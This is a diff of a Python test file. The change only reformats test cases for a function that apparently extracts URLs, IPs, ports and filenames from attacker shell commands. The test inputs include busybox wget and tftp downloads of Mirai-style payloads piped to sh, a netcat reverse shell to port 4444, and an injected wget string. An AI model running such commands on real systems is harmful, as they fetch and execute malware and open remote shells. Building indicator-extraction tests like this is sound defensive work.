@@ -33,7 +33,8 @@ def test_seed_command() -> None:
         ("url", "http://198.51.100.23/okiru.sh"), ("ip", "198.51.100.23"),
         ("filename", "okiru.sh")]  # fmt: skip
     assert pairs("cd /tmp/;/bin/busybox wget http://[redacted]/okiru.sh`") == [
-        ("filename", "okiru.sh")]  # the NPA's masked sample: the host is not a host
+        ("filename", "okiru.sh")
+    ]  # the NPA's masked sample: the host is not a host
 
 
 @pytest.mark.parametrize(
@@ -59,16 +60,24 @@ def test_decoding(text: str, want: str) -> None:
     [
         ("`wget http://198.51.100.7/x`", [("url", "http://198.51.100.7/x")]),
         ("$(curl -o /tmp/x -A ua http://198.51.100.7/x)", [("url", "http://198.51.100.7/x")]),
-        ("busybox wget 198.51.100.7/bins/mips -O-|sh", [("url", "http://198.51.100.7/bins/mips"),
-                                                      ("filename", "mips")]),
+        (
+            "busybox wget 198.51.100.7/bins/mips -O-|sh",
+            [("url", "http://198.51.100.7/bins/mips"), ("filename", "mips")],
+        ),
         ("tftp -g -r arm7 198.51.100.7", [("url", "tftp://198.51.100.7/arm7")]),
-        ("tftp -r arm7 -g 198.51.100.7 6969", [("url", "tftp://198.51.100.7:6969/arm7"),
-                                               ("ip_port", "198.51.100.7:6969")]),
+        (
+            "tftp -r arm7 -g 198.51.100.7 6969",
+            [("url", "tftp://198.51.100.7:6969/arm7"), ("ip_port", "198.51.100.7:6969")],
+        ),
         ("tftp 198.51.100.7 -c get x86", [("url", "tftp://198.51.100.7/x86")]),
-        ("wget -g 198.51.100.7 -r okiru.mips", [("ip", "198.51.100.7"),
-                                                ("filename", "okiru.mips")]),
-        ("ftpget -v -u anonymous -p x -P 2121 dl.example m m.sh",
-         [("url", "ftp://dl.example:2121/m.sh"), ("domain", "dl.example")]),
+        (
+            "wget -g 198.51.100.7 -r okiru.mips",
+            [("ip", "198.51.100.7"), ("filename", "okiru.mips")],
+        ),
+        (
+            "ftpget -v -u anonymous -p x -P 2121 dl.example m m.sh",
+            [("url", "ftp://dl.example:2121/m.sh"), ("domain", "dl.example")],
+        ),
         ("nc 198.51.100.7 4444 -e /bin/sh", [("ip_port", "198.51.100.7:4444")]),
         ("vars[1][]=wget http://198.51.100.7/t.sh", [("url", "http://198.51.100.7/t.sh")]),
     ],
